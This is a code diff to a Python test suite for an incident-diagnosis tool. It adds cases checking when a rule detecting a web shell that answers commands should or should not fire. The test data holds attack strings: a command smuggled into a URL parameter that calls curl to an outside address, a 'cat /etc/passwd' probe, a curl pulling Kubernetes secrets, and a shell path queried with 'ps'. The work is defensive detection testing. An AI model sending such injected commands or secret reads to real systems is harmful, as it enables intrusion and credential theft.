@@ -6,7 +6,7 @@ from datetime import timedelta
 from typing import Any
 
 from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
-from tests.diagnosis.rules.planting import CONVERTS, DUMP, SHELL, SHELLS, site
+from tests.diagnosis.rules.planting import CONVERTS, DUMP, FIELDS, ORDERS, SHELL, SHELLS, SORTED, site, told
 from tests.diagnosis.rules.scenes import CALLS_CART, CART, SHOP, WELL, alert, errors, ingress, logs, shop
 from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, container, log, pod, snapshot, thing, workload
 from tuheg_ir.diagnosis.model import Alert, Snapshot
@@ -69,6 +69,7 @@ INJECTED = (
 READS = "I0304 11:58:01.2 41 round_trippers.go:463] GET https://10.96.0.1:443/api/v1/namespaces/shop/secrets?limit=500"
 CURLS = "+ curl -sk -H @/tmp/h https://kubernetes.default.svc/api/v1/secrets"
 GREW = alert("UnusualEgress", pod=pod("shop"))
+SCANS = (("id", 9000), ("1%3Bcurl+http://203.0.113.9/k", 9000), ("cat+/etc/passwd", 9000))
 
 
 def token(of: str, age: float) -> Obj:
@@ -155,7 +156,17 @@ HOLDS = [
             ("and commands complain just then", site()),
             ("and whole tables are read from its pod", site(says=(), dumps=DUMP)),
             ("of another language", site("/uploads/2026/03/cmd.jsp")),
+            ("by an address with a command, and others complain just then", site(f"{SHELL}?c=ps", how="GET")),
+            ("and it answers each command by another length", told()),
+            ("and it does so in a log of fields", told(form=FIELDS)),
+            ("in an image made of a web server", told(image="registry.example/php-nginx:8.3")),
         )
+    ),
+    Holds(
+        "a server in front tells of the same commands as the one that runs them",
+        told(behind=True),
+        (CART, "security_incident", "isolate_workload"),
+        alone=True,
     ),
     Holds(
         "a program looks for the logins of others everywhere",
@@ -273,6 +284,16 @@ DOES_NOT_HOLD = [
             ("it is no upload", site("/admin/index.php")),
             ("many ask for it: it is a page of the site", site(clients=tuple(f"203.0.113.{n}" for n in range(5)))),
             ("it is only looked at", site("/media/player.php", how="GET")),
+            ("all commands get the same page", told(tuple((order, 22387) for order, _ in ORDERS))),
+            ("that page repeats what it was asked for", told(tuple((o, 9000 + len(o)) for o, _ in ORDERS))),
+            ("a scanner gets the same page, and more goes out than ever", told(SCANS, alerts=[GREW])),
+            ("its commands are turned away", told(status=403)),
+            ("there are too few commands", told(ORDERS[:2])),
+            ("its fields are words that name commands, too", told(SORTED)),
+            ("its commands are asked of a page that is no upload", told(path="/admin/run.php")),
+            ("commands are told by many", told(clients=tuple(f"203.0.113.{n}" for n in range(5)))),
+            ("how long its answers are is not told", told(form=FIELDS.replace("body_bytes_sent", "took"))),
+            ("by a server that runs none, and passes it on", told(image="nginx:1.27")),
             ("it is a picture", site(SHELL.replace(".php", ".png"))),
             ("it is a runner of what users ask for", site(name="ci-runner")),
         )
